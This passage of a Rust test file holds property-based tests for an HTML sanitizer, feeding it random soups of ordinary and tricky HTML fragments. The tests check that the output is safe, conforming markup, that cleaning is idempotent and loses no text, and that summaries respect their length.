    "<br>", "<hr/>", "<ruby>", "<rt>", "<details>", "<summary>", "</details>", "<form>", "<select>",
    "</select>", "<template>", "</template>", "<noscript>", "&lt;", "&amp;lt;", "&#1;", "&nbsp;", "&", "<",
    "x", " ", "<span style='color:red;position:fixed'>", "</span>",
    "<iframe src=https://www.youtube.com/embed/x>", "</iframe>", "<video>", "<source src=x>", "</video>",
    "<picture>", "<font color=red>", "</font>", "<center>", "</center>", "\u{0}", "é", "<annotation>",
    "<colgroup>", "<col>",
];

/// Pieces that make documents without anything doubtful, and more of what may go wrong in them.
#[rustfmt::skip]
const ORDINARY: [&str; 56] = [
    "<p>", "</p>", "<b>", "</b>", "<i id=x>", "</i>", "<a href=/a>", "<a href=#x>", "</a>", "<div>", "</div>", "<ul>",
    "<ol>", "<li>", "</ul>", "</li>", "<dl>", "<dt>", "<dd>", "</dl>", "<h1>", "</h1>", "<h2>", "</h3>", "<pre>", "\n",
    "</pre>", "<img src=x>", "<br>", "</br>", "<hr/>", "<details>", "<summary>", "</details>", "&lt;", "&amp;lt;",
    "&#10;", "&#13;", "\r\n", "&nbsp;", "&copy", "&", "<", "x", " ", "\"", "<font color=red>", "</font>", "<center>", "</center>",
    "<address>", "<blockquote>", "</blockquote>", "<video>", "<source src=x>", "</video>",
];

fn ordinary_soup() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(&ORDINARY[..]), 0..16).prop_map(|pieces| pieces.concat())
}

fn soup() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(&PIECES[..]), 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn whatever_comes_in_what_goes_out_is_safe_xml(html in prop_oneof![soup(), any::<String>(), "[<>/a-c \"'=!&;-]{0,60}"]) {
        for safe in [reading(&html), publishing(&html)] {
            prop_assert_eq!(danger(&safe), None, "became {}", safe);
        }
    }

    #[test]
    fn plain_text_holds_no_control_character_and_is_read_the_same_escaped(html in prop_oneof![soup(), any::<String>()]) {
        let plain = text(&html);
        prop_assert!(!plain.contains(|c: char| c.is_control()));
        prop_assert_eq!(text(SafeHtml::from_text(&plain).as_str()), plain);
    }

    #[test]
    fn a_summary_is_a_beginning_and_keeps_to_its_length(plain in prop_oneof![any::<String>(), "([a-zé]{1,9}[ .!?\n]{1,2}){0,40}"], max in 0_usize..200) {
        let short = summary(&plain, max);
        prop_assert!(short.chars().count() <= max);
        prop_assert!(plain.trim().starts_with(short.trim_end_matches('…')));
    }
}

proptest! {
    /// The argument for leaving the second gate out, with that gate as the judge.
    #[test]
    fn what_is_not_doubtful_is_read_by_a_parser_as_it_is_written(html in prop_oneof![4 => ordinary_soup(), 1 => soup(), 1 => any::<String>(), 1 => "[<>/a-c \"'=!&;\r\n-]{0,60}"]) {
        for policy in [Policy::reading(), Policy::quiet(), Policy::trusting()] {
            let cleaned = clean::clean(&html, Some(&base()), &policy);
            if !cleaned.is_doubtful {
                prop_assert_eq!(gate::pass(&cleaned.html, policy.frames), cleaned.html);
            }
        }
    }
}

proptest! {
    #[test]
    fn reading_twice_changes_nothing(html in ordinary_soup()) {
        let once = reading(&html);
        prop_assert_eq!(reading(&once), once);
    }

    /// What conforms is what a parser expects: nothing is left for it to mend.
    #[test]
    fn what_is_published_is_read_as_it_is_written_and_published_the_same_again(html in soup()) {
        let policy = Policy::quiet().with_id_prefix("e1-");
        let cleaned = clean::clean(&html, Some(&base()), &policy).html;
        prop_assert_eq!(gate::pass(&cleaned, policy.frames), &*cleaned, "a parser's, from {}", html);
        prop_assert_eq!(publishing(&cleaned), cleaned, "from {}", html);
    }

    /// What a tree builder makes of nesting is not always read again as it was (WHATWG HTML 13.3),
    /// so that a second time may nest doubtful markup otherwise; it never adds or loses text.
    #[test]
    fn reading_doubtful_markup_twice_loses_no_text(html in soup()) {
        let letters = |html: &str| text(html).split_whitespace().collect::<String>();
        let once = reading(&html);
        let twice = reading(&once);
        prop_assert_eq!(danger(&twice), None, "became {}", twice);
        prop_assert_eq!(letters(&twice), letters(&once), "{} became {}", once, twice);
    }
}
